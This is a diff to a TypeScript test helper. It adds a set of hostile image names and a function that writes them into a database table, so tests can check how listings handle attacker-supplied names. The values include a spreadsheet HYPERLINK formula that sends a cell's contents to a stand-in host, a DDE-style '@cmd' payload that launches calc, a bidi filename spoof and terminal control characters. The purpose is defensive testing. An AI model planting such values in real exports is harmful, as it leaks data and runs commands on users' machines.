@@ -63,3 +63,34 @@ export function readDir(dir: string): Map<string, Buffer> {
       .map((name) => [name, readFileSync(join(dir, name))]),
   );
 }
+
+/** Image names an attacker or a careless upstream could give (formula, control, bidi, length). */
+export const HOSTILE_NAMES = {
+  formula: '=HYPERLINK("http://x.example/?leak="&A1,"Fix")',
+  at: "@cmd|' /C calc'!A0",
+  long: 'A'.repeat(30_000),
+  bidi: '\u202eexe.txt\u202c مرحبا',
+  controls: '\u001b[31mred\u0007\u0008',
+} as const;
+
+/**
+ * Gives the first five images of `imageIds` the HOSTILE_NAMES (every reference of each, no
+ * namespace, version `v1`): the listing is not part of the hash chain, so the chain stays intact.
+ */
+export async function makeHostileNames(
+  w: SyncWorld,
+  imageIds: readonly string[],
+): Promise<Map<string, string>> {
+  const names = Object.values(HOSTILE_NAMES);
+  const given = new Map<string, string>();
+  for (const [i, name] of names.entries()) {
+    const id = imageIds[i];
+    if (id === undefined) throw new Error(`need ${names.length} images, got ${imageIds.length}`);
+    await w.t.pool.query(
+      `update hss_internal.image_refs set image_name = $2, namespace = '', image_version = 'v1' where image_id = $1`,
+      [id, name],
+    );
+    given.set(id, name);
+  }
+  return given;
+}
